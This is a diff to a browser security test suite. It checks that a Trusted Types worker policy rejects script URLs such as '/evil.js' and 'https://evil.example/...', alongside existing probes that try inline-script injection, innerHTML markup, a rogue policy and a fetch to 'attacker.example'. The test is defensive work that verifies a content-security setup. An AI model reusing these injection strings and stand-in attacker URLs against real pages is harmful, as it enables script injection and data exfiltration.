@@ -76,6 +76,10 @@ test.describe('script injection', () => {
       };
       attempt('text', () => (inline.textContent = 'globalThis.owned = true'));
       attempt('markup', () => (document.body.innerHTML = '<b>owned</b>'));
+      const made = Reflect.get(globalThis, 'echopostWorkerPolicy');
+      tries['script'] = ['/evil.js', 'https://evil.example/assets/insight-worker-1.js'].some(
+        (url) => String(made.createScriptURL(url)) !== '/sw.js',
+      );
       attempt('policy', () => Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {}));
       tries['fetch'] = await fetch('https://attacker.example/').then(
         () => true,
@@ -87,6 +91,7 @@ test.describe('script injection', () => {
     expect(outcome).toEqual({
       text: false,
       markup: false,
+      script: false,
       policy: false,
       fetch: false,
       owned: false,
